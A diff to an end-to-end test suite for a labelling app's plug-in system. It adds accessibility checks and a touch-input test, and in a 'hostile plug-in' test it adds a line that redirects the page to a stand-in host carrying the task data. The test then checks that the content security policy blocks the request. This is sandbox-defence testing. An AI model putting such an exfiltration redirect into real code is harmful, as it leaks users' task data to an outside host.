@@ -3,6 +3,7 @@ import { join } from 'node:path';
 import type { Page } from 'playwright-core';
 import { describe, expect, inject } from 'vitest';
 import { apiAs } from './api.ts';
+import { violationsOf } from './axe.ts';
 import { type Journey, journey, useBrowser } from './journey.ts';
 
 useBrowser();
@@ -84,6 +85,7 @@ describe('built-in plug-ins', () => {
     await page.keyboard.press('Shift+ArrowDown');
     await frame.getByRole('button', { name: 'Box 2: animal' }).waitFor();
     await j.shoot(page, 'plugin-bounding-box');
+    expect(await violationsOf(page)).toEqual([]);
     await page.getByText('Saved').first().waitFor();
     await page.reload();
     await frame.getByRole('button', { name: 'Box 2: animal' }).waitFor();
@@ -98,7 +100,7 @@ describe('built-in plug-ins', () => {
     expect(first?.width).toBeCloseTo(30, 0);
   });
 
-  journey('outline what stands out by keyboard alone, and again by touch', async (j) => {
+  journey('outline what stands out by keyboard alone', async (j) => {
     const { page, projectId } = await workOn(j, await builtIn(j, 'salient-polygon'), { image: PICTURE });
     await page.goto(`/projects/${projectId}/label`);
     const frame = frameOf(page);
@@ -129,6 +131,36 @@ describe('built-in plug-ins', () => {
       nothing_salient: false,
     });
   });
+});
+
+journey('a plug-in is worked in by touch', async (j) => {
+  const { page, projectId } = await workOn(j, await builtIn(j, 'salient-polygon'), { image: PICTURE });
+  const cdp = await page.context().newCDPSession(page);
+  await cdp.send('Emulation.setTouchEmulationEnabled', { enabled: true, maxTouchPoints: 1 });
+  await page.goto(`/projects/${projectId}/label`);
+  const frame = frameOf(page);
+  const surface = frame.locator('.stage-surface');
+  await surface.waitFor();
+  const box = await surface.boundingBox();
+  if (!box) throw new Error('the picture has no place');
+  const tap = async (x: number, y: number): Promise<void> => {
+    const point = { x: box.x + box.width * x, y: box.y + box.height * y };
+    await cdp.send('Input.dispatchTouchEvent', { type: 'touchStart', touchPoints: [point] });
+    await cdp.send('Input.dispatchTouchEvent', { type: 'touchEnd', touchPoints: [] });
+  };
+  for (const [x, y] of [
+    [0.3, 0.3],
+    [0.7, 0.3],
+    [0.7, 0.7],
+    [0.3, 0.7],
+  ] as const)
+    await tap(x, y);
+  await frame.getByText('4 points').waitFor();
+  await tap(0.3, 0.3);
+  await frame.getByRole('button', { name: 'Outline 1 (4 points)' }).waitFor();
+  await page.getByRole('button', { name: /Submit/ }).click();
+  const { result } = await waitForAnswer(page, projectId);
+  expect((result.polygons as { points: unknown[] }[])[0]?.points).toHaveLength(4);
 });
 
 describe('a generated form', () => {
@@ -207,6 +239,7 @@ describe('a generated form', () => {
     await page.getByText('Say why it is bad.').waitFor();
     await page.getByLabel(/^Why/).fill('no power');
     await j.shoot(page, 'schema-form');
+    expect(await violationsOf(page)).toEqual([]);
     await page.getByText('Saved').first().waitFor();
     await page.keyboard.press('Control+Enter');
     const answer = await waitForAnswer(page, projectId);
@@ -255,12 +288,23 @@ describe('a hostile plug-in', () => {
           try { await attempt(); reached.push(name); } catch {}
         }
         element.textContent = 'tried everything';
+        setTimeout(() => { location.href = 'http://labelwright.test:9/?' + encodeURIComponent(JSON.stringify(host.task)); }, 2500);
         host.onChange({ note: reached.join(',') || 'nothing' });
       }`;
     const { page, projectId } = await workOn(j, await ownDefinition(j, 'hostile-reach', SCHEMA, script), {});
     await page.goto(`/projects/${projectId}/label`);
     await frameOf(page).getByText('tried everything').waitFor();
     await page.getByText('Saved').first().waitFor();
+    const left: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('labelwright.test'))
+        request.response().then(
+          () => left.push(request.failure()?.errorText ?? 'sent'),
+          () => left.push('failed'),
+        );
+    });
+    await page.waitForTimeout(4000);
+    expect(left.filter((reason) => !/BLOCKED_BY_CSP|BLOCKED_BY_CLIENT/.test(reason))).toEqual([]);
     await page.getByRole('button', { name: /Submit/ }).click();
     const { result } = await waitForAnswer(page, projectId);
     // A beacon is queued before its policy is looked at; it never leaves the frame.
